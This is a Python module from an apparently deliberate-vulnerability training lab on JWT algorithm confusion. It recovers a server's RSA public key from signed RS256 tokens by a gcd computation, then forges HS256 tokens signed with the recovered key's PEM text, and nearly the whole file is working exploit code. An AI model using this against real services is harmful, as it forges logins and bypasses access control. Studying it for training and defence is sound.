"""DELIBERATELY VULNERABLE - for the attack lab only; used by nothing else (lesson 04): confusion without the key.

HS/RS confusion needs the server's public key, as the bytes the server uses as its HMAC secret.
A server that never publishes its key still gives it away in every token it signs. An RS256
signature ``s`` of a token satisfies ``s**e == m (mod n)``, where ``m`` is the PKCS#1 v1.5
encoding of the SHA-256 digest of the token's signing input, so ``n`` divides ``s**e - m``.
Two tokens give two such multiples, and their gcd is ``n`` times, at most, a small factor, which
trial division removes. Then the attacker writes the recovered key as PEM in both common forms
(PKCS#1 ``RSA PUBLIC KEY`` and SubjectPublicKeyInfo ``PUBLIC KEY``), because they cannot know
which bytes the server holds, and tries an HS256 token signed with each.

The order service of the lab signs with ``keys.small_exponent_rsa_private_key()`` (e = 3): raising a
2,048-bit signature to the power 3 takes plain Python microseconds. With the usual e = 65537 the
numbers have 134 million bits, and plain Python's gcd of two of them takes hours; real tools use a
fast big-number library (gmpy2). ``MAX_EXPONENT`` refuses exponents plain Python cannot handle.
"""
from __future__ import annotations

import hashlib
import math
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey, RSAPublicNumbers

from ..errors import LabError
from .classic import sign_hs256
from .common import Rejected, split_token

ORDERS_AUDIENCE = "orders-api"
"""The order service: RS256 tokens from ``keys.small_exponent_rsa_private_key()``, its key never published."""
SHA256_DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")
"""The DER prefix that names SHA-256 in a PKCS#1 v1.5 signature (RFC 8017, section 9.2)."""
MAX_EXPONENT = 257
"""The largest public exponent ``recover_rsa_modulus`` tries: beyond it, plain Python takes minutes to hours."""
SMALL_FACTOR_LIMIT = 1 << 16
"""Trial division up to this bound removes the small factors the gcd leaves beside n."""
PEM_FORMS: dict[str, serialization.PublicFormat] = {
    "PKCS#1 (BEGIN RSA PUBLIC KEY)": serialization.PublicFormat.PKCS1,
    "SubjectPublicKeyInfo (BEGIN PUBLIC KEY)": serialization.PublicFormat.SubjectPublicKeyInfo,
}
"""The two PEM forms an RSA public key is commonly written in; the HMAC secret is one of them, byte for byte."""


class RecoveryFailed(LabError):
    """The tokens given do not pin down one RSA modulus (a wrong exponent, or unlucky tokens)."""


def pkcs1_v15_sha256(signing_input: bytes, length: int) -> int:
    """EMSA-PKCS1-v1_5 of ``signing_input`` with SHA-256, ``length`` bytes long, as an integer:
    the ``m`` of ``s**e == m (mod n)``."""
    digest_info = SHA256_DIGEST_INFO + hashlib.sha256(signing_input).digest()
    padding = length - len(digest_info) - 3
    if padding < 8:
        raise RecoveryFailed(f"a {length}-byte signature is too short for RS256")
    return int.from_bytes(b"\x00\x01" + b"\xff" * padding + b"\x00" + digest_info, "big")


@dataclass(frozen=True)
class ModulusRecovery:
    """An RSA public key recovered from signed tokens: ``modulus`` and ``exponent``, the small
    ``cofactor`` divided out of the gcd, and how many ``tokens`` it took."""

    modulus: int
    exponent: int
    cofactor: int
    tokens: int

    @property
    def bits(self) -> int:
        """The key's size in bits."""
        return self.modulus.bit_length()

    def public_key(self) -> RSAPublicKey:
        """The recovered key as a ``cryptography`` public key."""
        return RSAPublicNumbers(self.exponent, self.modulus).public_key()

    def pem_forms(self) -> dict[str, bytes]:
        """The recovered key written in each of ``PEM_FORMS``: one of them is the server's HMAC secret."""
        key = self.public_key()
        return {name: key.public_bytes(serialization.Encoding.PEM, form) for name, form in PEM_FORMS.items()}

    def __repr__(self) -> str:
        digits = f"{self.modulus:x}"
        return (f"ModulusRecovery(bits={self.bits}, exponent={self.exponent}, cofactor={self.cofactor}, "
                f"tokens={self.tokens}, modulus=0x{digits[:12]}...{digits[-12:]})")


def _signature_and_encoding(token: str) -> tuple[int, int, int]:
    """``s``, ``m`` and the signature's length in bytes, for one RS256 token."""
    header_b64, payload_b64, _, header, _, signature = split_token(token)
    if header.get("alg") != "RS256":
        raise Rejected(f"not an RS256 token (alg {header.get('alg')!r})")
    signing_input = f"{header_b64}.{payload_b64}".encode()
    return int.from_bytes(signature, "big"), pkcs1_v15_sha256(signing_input, len(signature)), len(signature)


def recover_rsa_modulus(tokens: Sequence[str], *, exponent: int = 3) -> ModulusRecovery:
    """The RSA modulus behind two or more RS256 tokens of one server: gcd of ``s**e - m``, small factors removed.

    The attacker needs nothing but tokens the server signed (their own logins will do). Raises
    ``Rejected`` for a token that is not RS256, ``RecoveryFailed`` when the tokens do not give
    one modulus (a wrong ``exponent``, tokens of different keys, or a cofactor too large to
    divide out: add a token).
    """
    if isinstance(tokens, str) or len(tokens) < 2:
        raise RecoveryFailed("give at least two tokens signed by the same server")
    if not 2 < exponent <= MAX_EXPONENT:
        raise RecoveryFailed(f"exponent {exponent} is out of reach here (3 to {MAX_EXPONENT}): plain Python's "
                             "gcd of numbers exponent x 2,048 bits long takes minutes to hours")
    pairs = [_signature_and_encoding(token) for token in tokens]
    lengths = {length for _, _, length in pairs}
    if len(lengths) != 1:
        raise RecoveryFailed(f"the tokens' signatures have different lengths {sorted(lengths)}: different keys")
    (length,) = lengths
    multiple = 0
    for s, m, _ in pairs:
        multiple = math.gcd(multiple, s**exponent - m)
    modulus, cofactor = multiple, 1
    for d in range(2, SMALL_FACTOR_LIMIT):
        if modulus.bit_length() <= 8 * length:
            break
        while modulus % d == 0:
            modulus //= d
            cofactor *= d
    fits = 8 * (length - 1) < modulus.bit_length() <= 8 * length
    if not fits or not all(pow(s, exponent, modulus) == m for s, m, _ in pairs):
        raise RecoveryFailed(f"no {8 * length}-bit modulus with e = {exponent} fits these tokens")
    return ModulusRecovery(modulus=modulus, exponent=exponent, cofactor=cofactor, tokens=len(pairs))


def confusion_tokens(claims: Mapping[str, Any], recovery: ModulusRecovery) -> dict[str, str]:
    """One HS256 token per PEM form of the recovered key, each signed with that PEM text as the secret.

    The attacker sends each; the one written in the server's form gets in.
    """
    return {form: sign_hs256(claims, pem) for form, pem in recovery.pem_forms().items()}


__all__ = [
    "MAX_EXPONENT", "ORDERS_AUDIENCE", "PEM_FORMS", "SHA256_DIGEST_INFO", "SMALL_FACTOR_LIMIT",
    "ModulusRecovery", "RecoveryFailed", "confusion_tokens", "pkcs1_v15_sha256", "recover_rsa_modulus",
]
